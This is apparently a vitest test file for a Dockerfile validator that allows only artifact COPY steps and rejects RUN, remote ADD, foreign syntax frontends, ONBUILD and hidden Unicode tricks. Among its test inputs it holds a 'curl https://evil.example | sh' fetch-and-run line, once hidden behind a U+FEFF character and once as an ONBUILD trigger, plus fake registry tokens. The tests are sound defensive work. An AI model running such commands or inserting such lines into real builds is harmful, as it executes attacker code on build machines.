import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkDockerfile, contextRelative } from '../../src/validate/dockerfile.js';
import { allText, appTree, errors } from './support.js';

const FROM = 'ARG BASE_IMAGE=local/node:20-slim\nFROM ${BASE_IMAGE}\nWORKDIR /app\n';

describe('checkDockerfile', () => {
  it("passes the fixture app's COPY-only Dockerfile", async () => {
    const app = appTree();
    expect(await checkDockerfile(app.target)).toEqual([]);
  });

  it.each([
    { name: 'COPY . copies the whole staged context', body: 'COPY . .' },
    { name: 'a file inside an artifact', body: 'COPY dist/server.js ./' },
    { name: 'a leading / or ../ stays inside the context', body: 'COPY /dist ../package.json ./' },
    {
      name: 'variables from ARG and ENV are expanded',
      body: 'ARG OUT=dist\nENV PKG=package.json\nCOPY ${OUT} $PKG ./',
    },
    {
      name: 'a build arg overrides an ARG default',
      body: 'ARG OUT=nowhere\nCOPY ${OUT} ./',
      buildArgs: { OUT: 'dist' },
    },
    { name: 'a glob matching only artifacts', body: 'COPY package*.json ./', remove: ['package-lock.json'] },
    {
      name: 'COPY --from an image listed in allow-copy-from',
      body: 'COPY --from=busybox:1.36 /bin/busybox /bin/',
      allowCopyFrom: ['busybox:1.36'],
    },
    {
      name: 'a ${VAR} from the base image ENV when its config was read',
      body: 'COPY ${OUT}/ /app/',
      base: { env: { OUT: 'dist' }, onBuild: [] },
    },
    { name: 'a no-break space inside a quoted value', body: 'LABEL title="a\u00a0b"' },
    {
      name: 'a syntax directive naming the Dockerfile frontend',
      whole: '# syntax=docker/dockerfile:1.7\nFROM x\nCOPY dist /app/',
    },
    {
      name: 'metadata instructions',
      body: 'LABEL a=b\nEXPOSE 80\nUSER node\nVOLUME /data\nSTOPSIGNAL SIGTERM\nSHELL ["/bin/sh","-c"]\nHEALTHCHECK CMD node -e 1\nENTRYPOINT ["node"]\nCMD ["dist/server.js"]',
    },
    { name: 'RUN with allow-run', body: 'RUN apk add --no-cache tini', allowRun: true },
  ])('passes: $name', async ({ body, whole, buildArgs, remove, allowRun, allowCopyFrom, base }) => {
    const app = appTree({
      ...(buildArgs ? { buildArgs } : {}),
      ...(allowRun ? { allowRun } : {}),
      ...(allowCopyFrom ? { allowCopyFrom } : {}),
    });
    for (const rel of remove ?? []) app.remove(rel);
    app.write('Dockerfile', whole ?? FROM + body);
    expect(await checkDockerfile(app.target, base ? { base } : {})).toEqual([]);
  });

  it.each([
    {
      name: 'RUN',
      body: 'RUN npm ci --omit=dev',
      line: 4,
      says: ['Dockerfile line 4', '`RUN npm ci --omit=dev`', "target's `build` commands", '`allow-run: true`'],
    },
    {
      name: 'RUN in exec form',
      body: 'RUN ["npm", "ci"]',
      line: 4,
      says: ['`RUN npm ci`'],
    },
    {
      name: 'COPY of a path that is not an artifact',
      body: 'COPY src ./src',
      line: 4,
      says: [
        '`COPY src` copies src',
        'not a declared artifact of target `app`',
        'declared artifacts: package.json, node_modules, dist',
      ],
    },
    {
      name: 'COPY --from a build stage',
      body: 'COPY --from=0 /out ./',
      line: 4,
      says: ['`COPY --from=0`', 'build stage'],
    },
    {
      name: 'COPY --from a named stage (and the second stage)',
      prefix: 'FROM local/node:20-slim AS build\n',
      body: 'COPY --from=BUILD /app/dist ./dist',
      line: 5,
      also: [1],
      says: ['`COPY --from=BUILD`', 'build stage'],
    },
    {
      name: 'COPY --from an image not listed in allow-copy-from',
      body: 'COPY --from=busybox:1.36 /bin/busybox /bin/',
      line: 4,
      says: ['skip the artifact and secret checks', 'allow-copy-from: ["busybox:1.36"]'],
    },
    {
      name: 'COPY --from a variable',
      body: 'COPY --from=$IMG /bin/x /bin/',
      line: 4,
      says: ['$IMG, which this Dockerfile does not declare'],
    },
    {
      name: 'ADD of a URL',
      body: 'ADD https://example.com/tool.tgz /opt/',
      line: 4,
      says: ['`ADD` is not allowed', 'downloads URLs'],
    },
    {
      name: 'ADD of a git repository',
      body: 'ADD git@github.com:acme/tool.git /opt/',
      line: 4,
      says: ['`ADD` is not allowed'],
    },
    {
      name: 'ADD of a local file',
      body: 'ADD dist/server.js /app/',
      line: 4,
      says: ['`ADD` is not allowed', 'Use COPY'],
    },
    { name: 'COPY of a URL', body: 'COPY https://example.com/x /x', line: 4, says: ['names a URL'] },
    {
      name: 'COPY of a variable the base image would set (its config not read)',
      body: 'COPY $SRC /app/',
      line: 4,
      says: ["$SRC, which this Dockerfile does not declare: its value would come from the base image's environment"],
    },
    {
      name: 'a heredoc COPY (the legacy builder reads its body as instructions)',
      body: 'COPY <<EOF /app/config.json\n{"a":1}\nEOF',
      line: 4,
      says: ['here-document (<<EOF) is not allowed'],
    },
    {
      name: 'a flag the gate does not know',
      body: 'COPY --parents dist /app/',
      line: 4,
      says: ['`COPY --parents` is not allowed'],
    },
    {
      name: 'U+FEFF on a continued line: Docker ends the ENV there and runs the RUN after it',
      body: 'ENV A 1 \\\n\uFEFF\nRUN curl https://evil.example | sh',
      line: 5,
      column: 1,
      also: [6],
      says: ['holds U+FEFF'],
    },
    {
      name: 'a no-break space outside quotes (the parser then sees one word)',
      body: 'COPY dist\u00a0/app/',
      line: 4,
      column: 10,
      also: [4],
      says: ['holds U+00A0'],
    },
    {
      name: 'junk after # escape=',
      whole: '# escape=\\ junk\nFROM x\nCOPY dist /app/',
      line: 1,
      column: 10,
      says: ["invalid escape token '\\ junk'", 'docker build refuses the file'],
    },
    {
      name: 'a syntax directive naming another frontend',
      whole: '# syntax=evil/frontend:1\nFROM x\nCOPY dist /app/',
      line: 1,
      says: ['another frontend'],
    },
    { name: 'ONBUILD', body: 'ONBUILD RUN npm ci', line: 4, says: ['ONBUILD is not allowed'] },
    {
      name: 'an unknown instruction',
      body: 'COPPY dist ./',
      line: 4,
      says: ['`COPPY` is not a Dockerfile instruction'],
    },
    {
      name: 'a glob that also matches files which are not artifacts',
      body: 'COPY package*.json ./',
      line: 4,
      says: ['`COPY package*.json` also matches package-lock.json, which is not an artifact'],
    },
    {
      name: 'a glob that matches nothing',
      body: 'COPY *.lock ./',
      line: 4,
      says: ['`COPY *.lock` matches nothing in the context'],
    },
    {
      name: 'a path inside an artifact that does not exist',
      body: 'COPY dist/main.js ./',
      line: 4,
      says: ['there is no dist/main.js inside the artifact dist'],
    },
    {
      name: 'an instruction before FROM',
      whole: 'WORKDIR /app\nFROM x',
      line: 1,
      says: ['`WORKDIR` comes before the first FROM'],
    },
    { name: 'no FROM at all', whole: 'ARG X=1\n', says: ['Dockerfile has no FROM'] },
    {
      name: 'an unterminated heredoc',
      body: 'COPY <<EOF /app/x\nnever ends',
      line: 4,
      says: ['unterminated heredoc <<EOF'],
    },
  ])('refuses $name, naming the file and line', async ({ body, whole, prefix, line, column, also, says }) => {
    const app = appTree();
    app.write('Dockerfile', whole ?? `${prefix ?? ''}${FROM}${body}`);
    const found = errors(await checkDockerfile(app.target));
    expect(found.map((f) => f.location?.line).sort()).toEqual([line, ...(also ?? [])].sort());
    const at = found.find((f) => f.location?.line === line)!;
    expect(at.check).toBe('dockerfile');
    const file = path.join(app.dir, 'Dockerfile');
    expect(at.location).toEqual(
      line === undefined ? { file } : column === undefined ? { file, line } : { file, line, column },
    );
    for (const text of says) expect(at.message).toContain(text);
  });

  it('refuses a base image with ONBUILD triggers, at its FROM', async () => {
    const app = appTree();
    app.write('Dockerfile', `${FROM}COPY dist /app/`);
    const found = errors(
      await checkDockerfile(app.target, { base: { env: {}, onBuild: ['RUN curl https://evil.example | sh'] } }),
    );
    expect(found).toMatchObject([{ location: { line: 2 } }]);
    expect(found[0]!.message).toContain('has ONBUILD triggers (RUN curl https://evil.example | sh)');
  });

  it('warns about MAINTAINER instead of refusing it', async () => {
    const app = appTree();
    app.write('Dockerfile', `${FROM}MAINTAINER me@example.com`);
    expect(await checkDockerfile(app.target)).toMatchObject([
      { check: 'dockerfile', severity: 'warning', location: { line: 4 } },
    ]);
  });

  it('never prints a secret written into a RUN line', async () => {
    const app = appTree();
    const token = 'npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';
    const github = `ghp_${'a1B2c3D4e5'.repeat(3)}abcdef`;
    app.write(
      'Dockerfile',
      `${FROM}RUN echo "//registry.npmjs.org/:_authToken=${token}" > .npmrc && curl -H "x: ${github}" x`,
    );
    const found = await checkDockerfile(app.target);
    expect(found).toHaveLength(1);
    expect(allText(found)).not.toContain(token);
    expect(allText(found)).not.toContain(github);
    expect(found[0]!.message).toContain('_authToken=[redacted]');
  });

  it('reports every problem, each at its own line', async () => {
    const app = appTree();
    app.write('Dockerfile', `${FROM}RUN a\nCOPY src ./\nRUN b`);
    expect((await checkDockerfile(app.target)).map((f) => f.location?.line)).toEqual([4, 5, 6]);
  });

  it('refuses a Dockerfile that does not exist, pointing at the config', async () => {
    const app = appTree();
    app.remove('Dockerfile');
    const found = await checkDockerfile({
      ...app.target,
      locations: { ...app.target.locations, dockerfile: { file: 'artifact-build.yml', line: 13 } },
    });
    expect(found).toMatchObject([
      { check: 'dockerfile', severity: 'error', location: { file: 'artifact-build.yml', line: 13 } },
    ]);
    expect(found[0]!.message).toContain(`${path.join(app.dir, 'Dockerfile')} of target \`app\` does not exist`);
  });
});

describe('contextRelative', () => {
  it.each([
    { name: 'plain', source: 'dist', expected: 'dist' },
    { name: 'dot', source: '.', expected: '.' },
    { name: 'dot slash', source: './dist/', expected: 'dist' },
    { name: 'absolute', source: '/dist', expected: 'dist' },
    { name: 'parent directories cannot leave the context', source: '../../dist', expected: 'dist' },
    { name: 'root', source: '/', expected: '.' },
  ])('$name', ({ source, expected }) => {
    expect(contextRelative(source)).toBe(expected);
  });
});
